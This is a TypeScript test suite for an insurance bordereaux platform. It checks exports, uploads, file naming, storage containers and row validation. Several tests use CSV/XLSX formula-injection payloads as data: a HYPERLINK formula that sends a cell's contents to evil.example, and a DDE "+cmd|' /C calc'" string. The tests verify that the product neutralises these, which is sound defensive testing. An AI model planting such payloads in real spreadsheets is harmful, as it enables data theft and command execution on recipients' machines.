import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { AdminBdxFile, BdxExportDataResponse, BdxFileViewResponse, CarrierLoginResponse } from '@kyubos/contracts';
import { bdxAdminStatus, POLICY_LIFE_STATUSES } from '@kyubos/domain';
import { parse as parseCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { PassThrough } from 'node:stream';
import request from 'supertest';
import { BlobServiceClient } from '@azure/storage-blob';
import { AZURE_BDX_CONTAINER, createAzureBdxFileStorage } from '../src/bdx-files/storage';
import { createWorkerPool } from '../src/workers/pool';
import { startAzurite, type RunningAzurite } from './azurite';
import { bdxUpload, createTestContext, DEMO_PASSWORD, type TestContext } from './helpers';

let ctx: TestContext;
let summitId: number;
let atlas: CarrierLoginResponse;
/** The Summit line of business and month with the most policies, and the other records of that month. */
let book: { intake_id: number; period: string; month: string };
let lob: { id: number; category_name: string };
let offered: { state_code: string; state_name: string };
let notOffered: { state_code: string; state_name: string };
let uniqueRun = 0;

const admin = (url: string, body: object, user: keyof TestContext['tokens'] = 'summit_admin') => ctx.post(url, body, ctx.tokens[user]);
const binary = (req: request.Test) =>
  req.buffer(true).parse((res, done) => {
    const chunks: Buffer[] = [];
    res.on('data', (chunk: Buffer) => chunks.push(chunk));
    res.on('end', () => done(null, Buffer.concat(chunks)));
  });

/** A CSV whose bytes differ from every other one of the run. */
function csv(lines: string[], header = 'policy_number,insured_name,effective_date,state,premium'): Buffer {
  uniqueRun += 1;
  return Buffer.from([header, ...lines].join('\n') + '\n'.repeat(uniqueRun));
}
const adminFields = (overrides: Record<string, string | number> = {}) => ({
  client_id: summitId,
  career_id: atlas.career_id,
  period: '12/2026',
  control_value: '100.00',
  intake_id: lob.id,
  ...overrides,
});
function adminUpload(content: Buffer, name = 'december.csv', overrides: Record<string, string | number> = {}) {
  return bdxUpload(ctx.app, '/createbrdxsamplefile', ctx.tokens.summit_admin, adminFields(overrides), { name, content });
}
const portalFields = () => ({ sender_name: 'Atlas Insurance Co', sender_id: 'ATL-9001', period: '122026', control_value: '100', intake_id: lob.id });

before(async () => {
  ctx = await createTestContext();
  summitId = ctx.logins.summit_admin.client_id;
  atlas = (await ctx.post('/carrierlogin', { username: 'atlas_carrier', password: DEMO_PASSWORD }).expect(200)).body;
  book = (await ctx.db.one<typeof book>(
    `SELECT intake_id, to_char(policyeffectivedate, 'MMYYYY') AS period, to_char(policyeffectivedate, 'YYYY-MM') AS month
       FROM policy_quotations WHERE company_id = $1 AND stage = 'Policy' AND deleted_at IS NULL
      GROUP BY 1, 2, 3 ORDER BY count(*) DESC, 1 LIMIT 1`,
    [summitId],
  ))!;
  lob = (await ctx.db.one<typeof lob>('SELECT id, category_name FROM intake_categories WHERE id = $1', [book.intake_id]))!;
  offered = (await ctx.db.one<typeof offered>(
    'SELECT s.state_code, s.state_name FROM intake_states i JOIN states s ON s.id = i.state_id WHERE i.client_id = $1 AND i.intake_id = $2 ORDER BY s.id LIMIT 1',
    [summitId, lob.id],
  ))!;
  notOffered = (await ctx.db.one<typeof notOffered>(
    `SELECT state_code, state_name FROM states WHERE id NOT IN (SELECT state_id FROM intake_states WHERE client_id = $1 AND intake_id = $2) ORDER BY id LIMIT 1`,
    [summitId, lob.id],
  ))!;
  assert.ok(offered && notOffered, 'the line offers some states and not others');
});
after(() => ctx.close());

describe('Formula injection in the bordereaux the product writes', () => {
  const PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&C3,"Click me")', "+cmd|' /C calc'!A0", '-2+3'];

  test('When policies are named like formulas, then the CSV and XLSX exports quote those cells and the premiums stay numbers', async () => {
    // Three policies of the line, moved into the month and named like formulas.
    const policies = await ctx.db.query<{ id: number; policyamount: string }>(
      `SELECT id, policyamount::text AS policyamount FROM policy_quotations
        WHERE company_id = $1 AND intake_id = $2 AND stage = 'Policy' AND deleted_at IS NULL ORDER BY id LIMIT 3`,
      [summitId, book.intake_id],
    );
    assert.equal(policies.length, 3, 'three policies of the line');
    for (const [index, policy] of policies.entries()) {
      await ctx.db.query(`UPDATE policy_quotations SET firstname = $2, lastname = '', policyeffectivedate = $3::date WHERE id = $1`, [
        policy.id,
        PAYLOADS[index],
        `${book.month}-0${index + 1}`,
      ]);
    }
    const meta = { client_id: summitId, career_id: atlas.career_id, period: book.period, intake_id: book.intake_id };
    const ids = policies.map((policy) => policy.id);

    const csvFile = (await admin('/createfileExport', { ...meta, fileData: ids, format: 'csv' }).expect(200)).body.brdx as AdminBdxFile;
    const csvBytes = (await binary(admin('/downloadbrdxfile', { id: csvFile.id })).expect(200)).body as Buffer;
    const [header, ...rows] = parseCsv(csvBytes.toString('utf8')) as string[][];
    const insured = header!.indexOf('Insured Name');
    const premium = header!.indexOf('Premium');
    assert.deepEqual(
      rows.map((row) => row[insured]),
      PAYLOADS.map((payload) => `'${payload}`),
    );
    for (const row of rows) assert.match(row[premium]!, /^\d+\.\d{2}$/);

    const xlsxFile = (await admin('/createfileExport', { ...meta, control_value: '1', fileData: ids, format: 'xlsx' }).expect(200)).body.brdx as AdminBdxFile;
    const xlsxBytes = (await binary(admin('/downloadbrdxfile', { id: xlsxFile.id })).expect(200)).body as Buffer;
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsxBytes as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    const cells = [2, 3, 4].map((row) => sheet.getRow(row).getCell(insured + 1).value);
    assert.deepEqual(
      cells,
      PAYLOADS.map((payload) => `'${payload}`),
    );
    for (const row of [2, 3, 4]) {
      const value = sheet.getRow(row).getCell(premium + 1).value;
      assert.equal(typeof value, 'number', 'a premium is a number cell');
      assert.equal(sheet.getRow(row).getCell(premium + 1).type, ExcelJS.ValueType.Number);
    }
    const total = policies.reduce((sum, policy) => sum + Math.round(Number(policy.policyamount) * 100), 0);
    assert.equal(xlsxFile.computed_total, (total / 100).toFixed(2));
  });
});

describe('Formulas in the workbooks the product reads', () => {
  /** A workbook of one premium row whose Insured cell is `insured`. */
  async function workbook(insured: ExcelJS.CellValue): Promise<Buffer> {
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('Premium');
    sheet.addRow(['policy_number', 'insured_name', 'effective_date', 'state', 'premium']);
    sheet.addRow([`F-${(uniqueRun += 1)}`, insured, '2026-12-01', offered.state_code, 100]);
    return Buffer.from(await book.xlsx.writeBuffer());
  }

  test('When a cell is a formula the file never calculated, then the upload is refused naming its row and column; a calculated one is read as its value', async () => {
    const refused = await adminUpload(await workbook({ formula: 'HYPERLINK("http://evil.example/?d="&A2,"Click me")' } as ExcelJS.CellFormulaValue), 'formula.xlsx').expect(400);
    assert.equal(
      refused.body.message,
      'The file could not be read as XLSX: row 1, insured_name is a formula with no stored value: open the file in a spreadsheet program and save it again',
    );
    const calculated = (await adminUpload(await workbook({ formula: 'UPPER("acme")', result: 'ACME' } as ExcelJS.CellFormulaValue), 'calculated.xlsx').expect(200)).body
      .brdx as AdminBdxFile;
    const view = (await admin('/editbrdxfileview', { id: calculated.id }).expect(200)).body as BdxFileViewResponse;
    assert.equal(view.mappedRows.rows[0]!.cells[1], 'ACME');
  });
});

describe('Large workbooks are read a row at a time', () => {
  test('When a 30,000-row workbook of ten columns is read by a worker limited to 96 MB, then every row is read (the workbook is never built whole)', async () => {
    const output = new PassThrough();
    const chunks: Buffer[] = [];
    output.on('data', (chunk: Buffer) => chunks.push(chunk));
    const writer = new ExcelJS.stream.xlsx.WorkbookWriter({ stream: output, useSharedStrings: false });
    const sheet = writer.addWorksheet('Premium');
    sheet.addRow(['policy_number', 'insured_name', 'effective_date', 'state', 'premium', 'address', 'city', 'email', 'notes', 'agent']).commit();
    for (let i = 1; i <= 30_000; i += 1) {
      sheet.addRow([`BIG-${i}`, `Insured ${i} Holdings LLC`, new Date(Date.UTC(2026, 11, 1 + (i % 28))), offered.state_code, 500 + (i % 900), `${i} Main Street`, 'Denver', `insured${i}@example.com`, `note ${i}`, 'AG-1']).commit();
    }
    sheet.commit();
    await writer.commit();
    const pool = createWorkerPool({ size: 1, maxMemoryMb: 96 });
    try {
      const read = await pool.run('parse-bdx', { content: new Uint8Array(Buffer.concat(chunks)), extension: 'xlsx' });
      assert.equal(read.status, 'parsed');
      const rows = read.status === 'parsed' ? read.rowPages.flatMap((page) => JSON.parse(page) as string[][]) : [];
      assert.equal(rows.length, 30_000);
      assert.deepEqual(rows[29_999]!.slice(0, 5), ['BIG-30000', 'Insured 30000 Holdings LLC', '2026-12-13', offered.state_code, '800']);
    } finally {
      await pool.close();
    }
  });
});

describe('Uploaded bordereaux are kept and handed on safe to open', () => {
  const download = async (id: number): Promise<Buffer> => (await binary(admin('/downloadbrdxfile', { id })).expect(200)).body;

  test('When a CSV has cells that would run as formulas, then the kept file quotes them, numbers stay, and the rows read keep what was sent', async () => {
    const run = (uniqueRun += 1);
    const content = csv([`S-${run},"=HYPERLINK(""http://evil.example"",""Click me"")",2026-12-01,${offered.state_code},-150.00`, `S-${run}b,@SUM(A1),2026-12-02,${offered.state_code},200`]);
    const uploaded = (await adminUpload(content, `formula-${run}.csv`).expect(200)).body.brdx as AdminBdxFile;
    const rows = parseCsv(await download(uploaded.id)) as string[][];
    assert.deepEqual(rows.slice(1).map((row) => [row[1], row[4]]), [
      ['\'=HYPERLINK("http://evil.example","Click me")', '-150.00'],
      ["'@SUM(A1)", '200'],
    ]);
    const view = (await admin('/editbrdxfileview', { id: uploaded.id }).expect(200)).body as BdxFileViewResponse;
    assert.equal(view.mappedRows.rows[0]!.cells[1], '=HYPERLINK("http://evil.example","Click me")');
    // A file with nothing to quote is kept byte for byte.
    const plain = csv([`S-${run}c,Acme,2026-12-01,${offered.state_code},10`]);
    const kept = (await adminUpload(plain, `plain-${run}.csv`).expect(200)).body.brdx as AdminBdxFile;
    assert.deepEqual(await download(kept.id), plain);
  });

  test('When a carrier sends a workbook with a formula-like name and a formula, then the kept workbook holds the quoted text and values, its numbers still numbers', async () => {
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('Premium');
    sheet.addRow(['policy_number', 'insured_name', 'effective_date', 'state', 'premium']);
    sheet.addRow([`W-${(uniqueRun += 1)}`, "+cmd|' /C calc'!A0", new Date(Date.UTC(2026, 11, 1)), offered.state_code, 125.5]);
    sheet.getCell('C2').numFmt = 'mm/dd/yyyy';
    sheet.addRow([`W-${(uniqueRun += 1)}`, { formula: 'HYPERLINK("http://evil.example","Acme")', result: 'Acme' }, '2026-12-02', offered.state_code, 10]);
    const uploaded = (
      await bdxUpload(ctx.app, '/createbybdx', atlas.token, portalFields(), { name: `formula-${uniqueRun}.xlsx`, content: Buffer.from(await book.xlsx.writeBuffer()) }).expect(200)
    ).body.brdx as AdminBdxFile;
    const kept = new ExcelJS.Workbook();
    await kept.xlsx.load((await download(uploaded.id)) as unknown as ArrayBuffer);
    const keptSheet = kept.worksheets[0]!;
    assert.equal(keptSheet.getRow(2).getCell(2).value, "'+cmd|' /C calc'!A0");
    assert.equal(keptSheet.getRow(2).getCell(5).value, 125.5);
    assert.deepEqual(keptSheet.getRow(2).getCell(3).value, new Date(Date.UTC(2026, 11, 1)));
    assert.equal(keptSheet.getRow(3).getCell(2).value, 'Acme');
    assert.equal(keptSheet.getRow(3).getCell(5).value, 10);
  });
});

describe('Premium bordereaux carry bound business only', () => {
  test('When the export rows are asked for, then only policies are listed, never quotations or binders', async () => {
    const month = await ctx.db.one<{ period: string; intake_id: number }>(
      `SELECT to_char(policyeffectivedate, 'MMYYYY') AS period, intake_id FROM policy_quotations
        WHERE company_id = $1 AND quotation = 1 AND stage <> 'Policy' AND deleted_at IS NULL ORDER BY id LIMIT 1`,
      [summitId],
    );
    assert.ok(month, 'the seed holds a sent quotation or binder');
    const meta = { client_id: summitId, career_id: atlas.career_id, period: month.period, intake_id: month.intake_id };
    const { exportdata } = (await admin('/fileExportdata', meta).expect(200)).body as BdxExportDataResponse;
    const stages = await ctx.db.query<{ id: number; stage: string }>(
      `SELECT id, stage FROM policy_quotations WHERE company_id = $1 AND intake_id = $2 AND to_char(policyeffectivedate, 'MMYYYY') = $3
          AND quotation = 1 AND deleted_at IS NULL`,
      [summitId, month.intake_id, month.period],
    );
    assert.deepEqual(
      exportdata.map((row) => row.id).sort((a, b) => a - b),
      stages.filter((row) => row.stage === 'Policy').map((row) => row.id).sort((a, b) => a - b),
    );
    // Each row's Status is a policy's status (In force, Cancelled...), never a quotation's or binder's stage.
    assert.ok(exportdata.length > 0 && exportdata.every((row) => (POLICY_LIFE_STATUSES as readonly string[]).includes(row.status)), JSON.stringify(exportdata.map((row) => row.status)));
    const other = stages.find((row) => row.stage !== 'Policy')!;
    const refused = await admin('/createfileExport', { ...meta, fileData: [other.id] }).expect(400);
    assert.equal(refused.body.errors[0].path, 'fileData');
  });
});

describe('Carrier containers', () => {
  const carrierBody = async (containername: string) => {
    const row = (await ctx.db.one<Record<string, string>>(
      `SELECT id, name, kyubosid, "BDX_Username" FROM client_carriers WHERE id = $1`,
      [atlas.career_id],
    ))!;
    return {
      userData: {
        id: atlas.career_id,
        carriername: row.name,
        phonenumber: '',
        email: '',
        fax: '',
        address: '',
        city: '',
        state: '',
        zipcode: '',
        websiteaddress: '',
        kyubosid: row.kyubosid,
        username: '',
        BDX_Username: row.BDX_Username,
        BDX_Password: 'atlas-key',
        containername,
      },
    };
  };

  test('When a carrier is saved with a name Azure refuses, the platform’s container or another client’s, then 400 naming containername', async () => {
    const harbors = (await ctx.db.one<{ containername: string }>(
      `SELECT containername FROM client_carriers WHERE client_id = $1 ORDER BY id LIMIT 1`,
      [ctx.logins.harbor_admin.client_id],
    ))!.containername;
    for (const name of ['ab', 'a--b', '-abc', 'abc-', 'Upper-case', `a${'b'.repeat(63)}`, 'kyubos-bdx-files', harbors]) {
      const res = await admin('/updatecarrier', await carrierBody(name));
      assert.equal(res.status, 400, `${name}: ${res.text}`);
      assert.match(res.body.errors[0].path, /^(userData\.)?containername$/, name);
    }
    const stored = await ctx.db.one<{ containername: string }>('SELECT containername FROM client_carriers WHERE id = $1', [atlas.career_id]);
    assert.equal(stored!.containername, 'bdx-atlasinsuranceco');
    await admin('/updatecarrier', await carrierBody('abc')).expect(200);
    await admin('/updatecarrier', await carrierBody(`a${'b'.repeat(62)}`)).expect(200);
    await admin('/updatecarrier', await carrierBody('bdx-atlasinsuranceco')).expect(200);
  });

  test('When a stored container name is bad or another client’s, then /sendbdx answers 409 saying so, not 500, and the file stays unsent', async () => {
    const brdx = (await adminUpload(csv([`P-1,Acme,2026-12-01,${offered.state_code},100.00`])).expect(200)).body.brdx as AdminBdxFile;
    await admin('/reviewdbdx', { id: brdx.id }).expect(200);
    const harbors = (await ctx.db.one<{ containername: string }>(
      `SELECT containername FROM client_carriers WHERE client_id = $1 ORDER BY id LIMIT 1`,
      [ctx.logins.harbor_admin.client_id],
    ))!.containername;
    for (const name of ['ab', 'a--b', 'kyubos-bdx-files', harbors]) {
      await ctx.db.query('UPDATE client_carriers SET containername = $2 WHERE id = $1', [atlas.career_id, name]);
      const res = await admin('/sendbdx', { id: brdx.id });
      assert.equal(res.status, 409, `${name}: ${res.text}`);
      assert.match(res.body.message, new RegExp(`container name '${name}'`));
    }
    await ctx.db.query('UPDATE client_carriers SET containername = $2 WHERE id = $1', [atlas.career_id, 'bdx-atlasinsuranceco']);
    const sent = (await admin('/sendbdx', { id: brdx.id }).expect(200)).body.brdx as AdminBdxFile;
    assert.equal(bdxAdminStatus(sent), 'Sent');
    const history = (await admin('/viewbrdxfile', { client_id: summitId }).expect(200)).body.brdxList as AdminBdxFile[];
    assert.equal(bdxAdminStatus(history.find((file) => file.id === brdx.id)!), 'Sent');
  });
});

describe('File names and types', () => {
  test('When a file named 名前.csv is uploaded, then its name is stored and served as written', async () => {
    const brdx = (await adminUpload(csv([`P-1,Acme,2026-12-01,${offered.state_code},100.00`]), '名前.csv').expect(200)).body.brdx as AdminBdxFile;
    assert.equal(brdx.file_name, '名前.csv');
    const res = await binary(admin('/downloadbrdxfile', { id: brdx.id })).expect(200);
    assert.match(String(res.headers['content-disposition']), /filename\*=UTF-8''%E5%90%8D%E5%89%8D\.csv/);
    const portal = await bdxUpload(ctx.app, '/createbybdx', atlas.token, portalFields(), { name: 'données-é.csv', content: csv(['P-9,Acme,2026-12-01,TX,10']) }).expect(200);
    assert.equal(portal.body.brdx.file_name, 'données-é.csv');
  });

  test('When a long name hiding another type is cut, then the extension is kept and the stored, checked type is served', async () => {
    const name = `${'a'.repeat(190)}.html${'b'.repeat(20)}.csv`;
    const brdx = (await adminUpload(csv([`P-1,Acme,2026-12-01,${offered.state_code},100.00`]), name).expect(200)).body.brdx as AdminBdxFile;
    assert.equal([...brdx.file_name].length, 200);
    assert.match(brdx.file_name, /^a{190}\.htmlb\.csv$/);
    const res = await binary(admin('/downloadbrdxfile', { id: brdx.id })).expect(200);
    assert.match(String(res.headers['content-type']), /^text\/csv/);
    assert.equal(res.headers['x-content-type-options'], 'nosniff');
  });
});

describe('Malformed multipart bodies', () => {
  const BOUNDARY = 'KyubosBoundary';
  const part = (headers: string, body: string) => `--${BOUNDARY}\r\n${headers}\r\n\r\n${body}\r\n`;
  const BODIES: Record<string, (fileField: string) => Buffer> = {
    'a broken part header': (field) => Buffer.from(`${part(`Content-Disposition form-data; name="${field}"; filename="a.csv"\r\nbroken`, 'x')}--${BOUNDARY}--\r\n`),
    'a NUL in the file name': (field) =>
      Buffer.from(`${part(`Content-Disposition: form-data; name="${field}"; filename="a\u0000.csv"\r\nContent-Type: text/csv`, 'policy_number,premium\nP,1')}--${BOUNDARY}--\r\n`),
    'a truncated body': (field) => Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="${field}"; filename="a.csv"\r\n\r\npolicy_num`),
  };
  const CALLS = [
    { url: '/createbrdxsamplefile', field: 'file', token: () => ctx.tokens.summit_admin },
    { url: '/createbybdx', field: 'file', token: () => atlas.token },
    { url: '/company', field: 'documentUpload', token: () => ctx.tokens.kyubos_admin },
  ];
  for (const { url, field, token } of CALLS) {
    for (const [what, body] of Object.entries(BODIES)) {
      test(`When ${url} receives ${what}, then 400, not 500`, async () => {
        const res = await request(ctx.app)
          .post(url)
          .set('Authorization', `Bearer ${token()}`)
          .set('Content-Type', `multipart/form-data; boundary=${BOUNDARY}`)
          .send(body(field));
        assert.equal(res.status, 400, res.text);
        assert.match(res.body.message, /^Invalid /);
      });
    }
  }
});

describe('Duplicates on the carrier portal', () => {
  test('When Atlas uploads the same bytes twice, then 409 names the earlier file and nothing is added', async () => {
    const content = csv(['P-77,Twice Ltd,2026-12-01,TX,10.00']);
    const first = await bdxUpload(ctx.app, '/createbybdx', atlas.token, portalFields(), { name: 'first.csv', content }).expect(200);
    const count = async () => (await ctx.db.one<{ n: number }>('SELECT count(*)::int AS n FROM bdx_files WHERE client_id = $1', [summitId]))!.n;
    const before = await count();
    const again = await bdxUpload(ctx.app, '/createbybdx', atlas.token, portalFields(), { name: 'second.csv', content }).expect(409);
    assert.match(again.body.message, /^This file was already uploaded for Atlas Insurance Co as first\.csv on /);
    assert.equal(await count(), before);
    assert.ok(first.body.brdx.id);
  });
});

describe('Period and eligibility of the rows', () => {
  test('When rows are outside the period or of a state or line the LOB does not offer, then they are row problems and approving needs a note', async () => {
    const content = csv(
      [
        `P-1,Acme,2026-12-05,${offered.state_code},60.00,${lob.category_name}`,
        `P-2,Old Co,2022-12-05,${offered.state_code},10.00,${lob.category_name}`,
        `P-3,Far Co,12/20/2026,${notOffered.state_name},20.00,`,
        `P-4,Other Co,2026-12-06,${offered.state_name},40.00,Homeowners`,
      ],
      'policy_number,insured_name,effective_date,state,premium,line of business',
    );
    const brdx = (await adminUpload(content, 'december.csv', { control_value: '60.00' }).expect(200)).body.brdx as AdminBdxFile;
    assert.equal(brdx.row_count, 4);
    assert.equal(brdx.problem_count, 3);
    assert.equal(brdx.computed_total, '60.00');
    const view = (await admin('/editbrdxfileview', { id: brdx.id }).expect(200)).body as BdxFileViewResponse;
    assert.deepEqual(view.problems, [
      { row: 2, reason: 'Effective Date 12-05-2022 is outside the period 12/2026' },
      { row: 3, reason: `State '${notOffered.state_name}' is not a state of this line of business` },
      { row: 4, reason: "Line of business 'Homeowners' is not this file's line" },
    ]);
    const refused = await admin('/reviewdbdx', { id: brdx.id }).expect(400);
    assert.equal(refused.body.message, 'Invalid note: is required when rows have problems');
    assert.equal(refused.body.errors[0].path, 'note');
    await admin('/reviewdbdx', { id: brdx.id, note: 'Rows 2-4 are followed up with Atlas' }).expect(200);
  });
});

describe('Period and eligibility of the rows a carrier uploads', () => {
  test('When Atlas uploads rows outside the period, of a state or line the LOB does not offer or with a negative premium, then the client sees them as row problems, as the import refuses them', async () => {
    const content = csv(
      [
        `C-1,Acme Co,2026-12-05,${offered.state_code},60.00,${lob.category_name}`,
        `C-2,Old Co,2022-12-05,${offered.state_code},10.00,${lob.category_name}`,
        `C-3,Far Co,12/20/2026,${notOffered.state_name},20.00,`,
        `C-4,Other Co,2026-12-06,${offered.state_name},40.00,Homeowners`,
        `C-5,Late Co,2027-01-01,${offered.state_code},5.00,`,
        `C-6,Refund Co,2026-12-07,${offered.state_code},-50,${lob.category_name}`,
      ],
      'policy_number,insured_name,effective_date,state,premium,line of business',
    );
    const uploaded = await bdxUpload(ctx.app, '/createbybdx', atlas.token, portalFields(), { name: 'carrier-december.csv', content }).expect(200);
    const id = uploaded.body.brdx.id as number;
    const view = (await admin('/editbrdxfileview', { id }).expect(200)).body as BdxFileViewResponse;
    assert.equal(view.brdxList.row_count, 6);
    assert.equal(view.brdxList.problem_count, 5);
    // The negative premium is left out of the computed total as the import leaves its row out.
    assert.equal(view.brdxList.computed_total, '60.00');
    assert.deepEqual(view.problems, [
      { row: 2, reason: 'Effective Date 12-05-2022 is outside the period 12/2026' },
      { row: 3, reason: `State '${notOffered.state_name}' is not a state of this line of business` },
      { row: 4, reason: "Line of business 'Homeowners' is not this file's line" },
      { row: 5, reason: 'Effective Date 01-01-2027 is outside the period 12/2026' },
      { row: 6, reason: "Premium '-50' is negative" },
    ]);
  });
});

describe('Removing a file that was not approved', () => {
  test('When a file left Received (a legacy XLS, kept unread) is removed, then it leaves every list and its bytes go; an approved file cannot be removed', async () => {
    const xls = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(512, 7)]);
    const broken = (await adminUpload(xls, 'legacy.xls').expect(200)).body.brdx as AdminBdxFile;
    assert.equal(broken.parse_status, 'unsupported');
    assert.equal(bdxAdminStatus(broken), 'Received');
    const stored = (await ctx.db.one<{ stored_name: string }>('SELECT stored_name FROM bdx_files WHERE id = $1', [broken.id]))!.stored_name;
    const removed = await admin('/removebrdxsamplefile', { id: broken.id }).expect(200);
    assert.equal(removed.body.message, 'File removed');
    for (const url of ['/viewbrdxcreate', '/viewbrdxreview', '/viewbrdxfile']) {
      const list = (await admin(url, { client_id: summitId }).expect(200)).body.brdxList as AdminBdxFile[];
      assert.ok(!list.some((file) => file.id === broken.id), url);
    }
    assert.equal(await ctx.db.one('SELECT id FROM bdx_files WHERE stored_name = $1', [stored]), null);
    await admin('/removebrdxsamplefile', { id: broken.id }).expect(404);

    const approved = (await adminUpload(csv([`P-1,Acme,2026-12-01,${offered.state_code},100.00`])).expect(200)).body.brdx as AdminBdxFile;
    await admin('/reviewdbdx', { id: approved.id }).expect(200);
    const refused = await admin('/removebrdxsamplefile', { id: approved.id }).expect(409);
    assert.equal(refused.body.message, 'An approved file cannot be removed');
    await admin('/removebrdxsamplefile', {}).expect(400);
  });
});

describe('PDF fonts', () => {
  test('When a document names an insured in Latin-extended, Greek, Cyrillic, Chinese and emoji, then its text reads back as written', async () => {
    const { renderQuotationDocument } = await import('../src/quotation-actions/documents');
    const { pdfText } = await import('./pdf-text');
    const names = ['Łukasz Dvořák-Nguyễn', 'Ελένη Παππά', 'Дмитрий Орлов', '山田太郎 名前', 'Zoë 😀 Café ☎', '👩‍💻 🇺🇸 1️⃣ ↔ 名前 😀'];
    const bytes = await renderQuotationDocument({
      kind: 'quotation',
      clientName: 'Summit Specialty MGA',
      number: 'SUM-Q-2026-000099',
      issuedOn: '2026-11-22',
      insured: { name: names.join(' / '), address: '12 Elm St, Austin, TX 73301', phone: null, email: null },
      lineOfBusiness: 'GENERAL LIABILITY',
      subLob: null,
      program: 'Main Street Program',
      state: 'Texas',
      admitted: true,
      effectiveDate: '2026-12-01',
      expiryDate: '2027-12-01',
      coverages: [{ name: 'Each Occurrence', limit: 1000000, premium: 100 }],
      vehicle: null,
      policyAmount: 100,
    });
    const [page] = await pdfText(bytes);
    for (const name of names) assert.ok(page!.includes(name), `missing "${name}" in: ${page}`);
    assert.ok(page!.includes('Summit Specialty MGA'));
  });
});

describe('Carrier containers on Azure Blob Storage (Azurite)', () => {
  let azurite: RunningAzurite;
  let azure: TestContext;
  let service: BlobServiceClient;
  before(async () => {
    azurite = await startAzurite();
    azure = await createTestContext({ bdxStorage: createAzureBdxFileStorage(azurite.connectionString) });
    service = BlobServiceClient.fromConnectionString(azurite.connectionString);
  });
  after(async () => {
    await azure.close();
    await azurite.stop();
  });
  const blobsIn = async (container: string) => {
    const client = service.getContainerClient(container);
    if (!(await client.exists())) return [];
    const names: string[] = [];
    for await (const blob of client.listBlobsFlat()) names.push(blob.name);
    return names;
  };

  test('When Atlas’s container is set to Harbor’s carrier’s or the platform’s, then sending is refused and nothing lands there; with its own, the file lands in it', async () => {
    const token = azure.tokens.summit_admin;
    const summit = azure.logins.summit_admin.client_id;
    const carrier = (await azure.db.one<{ id: number; containername: string }>(
      `SELECT id, containername FROM client_carriers WHERE client_id = $1 AND name = 'Atlas Insurance Co'`,
      [summit],
    ))!;
    const harbors = (await azure.db.one<{ containername: string }>(
      'SELECT containername FROM client_carriers WHERE client_id = $1 ORDER BY id LIMIT 1',
      [azure.logins.harbor_admin.client_id],
    ))!.containername;
    const lobId = (await azure.post('/viewclientintakecategory', { client_id: summit }, token).expect(200)).body.intakecategory[0].id as number;
    const bytes = Buffer.from(`policy_number,insured_name,premium\nAZ-1,"Acme",100\n${Date.now()}\n`);
    const fields = { career_id: carrier.id, period: '052026', control_value: '100', intake_id: lobId };
    const id = ((await bdxUpload(azure.app, '/createbrdxsamplefile', token, fields, { name: 'may.csv', content: bytes }).expect(200)).body.brdx as AdminBdxFile).id;
    await azure.post('/reviewdbdx', { id, note: 'The last line is a run marker' }, token).expect(200);
    const platformBefore = await blobsIn(AZURE_BDX_CONTAINER);
    for (const name of [harbors, AZURE_BDX_CONTAINER]) {
      await azure.db.query('UPDATE client_carriers SET containername = $2 WHERE id = $1', [carrier.id, name]);
      const refused = await azure.post('/sendbdx', { id }, token);
      assert.equal(refused.status, 409, refused.text);
    }
    assert.deepEqual(await blobsIn(harbors), []);
    assert.deepEqual(await blobsIn(AZURE_BDX_CONTAINER), platformBefore);

    await azure.db.query('UPDATE client_carriers SET containername = $2 WHERE id = $1', [carrier.id, carrier.containername]);
    const sent = (await azure.post('/sendbdx', { id }, token).expect(200)).body.brdx as AdminBdxFile;
    assert.ok(sent.delivered_to?.startsWith(`${carrier.containername}/`));
    assert.equal((await blobsIn(carrier.containername)).length, 1);
  });
});
